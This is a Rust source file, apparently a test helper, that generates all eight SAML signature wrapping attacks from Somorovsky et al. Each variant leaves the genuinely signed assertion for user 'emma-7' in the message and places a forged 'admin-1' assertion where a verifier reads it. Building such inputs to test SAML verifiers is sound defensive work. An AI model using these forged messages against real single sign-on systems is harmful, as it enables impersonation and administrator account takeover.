//! Signature wrapping (Somorovsky et al., On Breaking SAML, 2012): eight ways to leave a signed element in a message and put
//! another where it is read. Each message names `admin-1` where the signed one names `emma-7`.

/// How many ways there are.
pub const WRAPPINGS: std::ops::RangeInclusive<u8> = 1..=8;

/// What a signed message is taken apart into.
struct Parts<'a> {
    response: &'a str,
    before: &'a str,
    assertion: &'a str,
    after: &'a str,
}

fn between<'a>(text: &'a str, start: &str, end: &str) -> (&'a str, &'a str, &'a str) {
    let from = text.find(start).unwrap_or_else(|| panic!("no {start} in {text}"));
    let to = from + text[from..].find(end).unwrap() + end.len();
    (&text[..from], &text[from..to], &text[to..])
}

/// A message wrapped in the way of that number; the forged element has the same id as the signed one or another.
pub fn wrapped(number: u8, xml: &str, same_id: bool) -> String {
    let (before, assertion, after) = between(xml, "<saml:Assertion ", "</saml:Assertion>");
    let parts = Parts { response: xml, before, assertion, after };
    let id = |text: &str| if same_id { text.to_owned() } else { text.replacen("ID=\"_", "ID=\"_forged", 1) };
    let (start, signature, rest) = between(assertion, "<ds:Signature ", "</ds:Signature>");
    let plain = format!("{start}{rest}");
    let forged = id(&plain.replace("emma-7", "admin-1"));
    let forged_signed = id(&format!("{start}{signature}{rest}").replace("emma-7", "admin-1"));
    let Parts { response, before, assertion, after } = parts;
    let object = |inside: &str| format!("<ds:Object>{inside}</ds:Object></ds:Signature>");
    match number {
        // The whole response, copied after the signature of the forged one, or before it.
        1 => id(response).replace("emma-7", "admin-1").replacen("</ds:Signature>", &format!("</ds:Signature>{response}"), 1),
        2 => id(response).replace("emma-7", "admin-1").replacen("<ds:Signature ", &format!("{response}<ds:Signature "), 1),
        // The forged assertion before the signed one, and around it.
        3 => format!("{before}{forged}{assertion}{after}"),
        4 => format!("{before}{}{assertion}</saml:Assertion>{after}", forged.trim_end_matches("</saml:Assertion>")),
        // The signature goes with the forged one; the signed one stands beside it, or in the signature.
        5 => format!("{before}{forged_signed}{plain}{after}"),
        6 => format!("{before}{}{after}", forged_signed.replace("</ds:Signature>", &format!("{plain}</ds:Signature>"))),
        // The forged one in an extension; the signed one in an object of the signature.
        7 => format!(
            "{}{after}",
            before.replacen("<samlp:Status>", &format!("<samlp:Extensions>{forged}</samlp:Extensions><samlp:Status>"), 1) + assertion
        ),
        8 => format!("{before}{}{after}", forged_signed.replace("</ds:Signature>", &object(&plain))),
        other => panic!("there is no wrapping {other}"),
    }
}
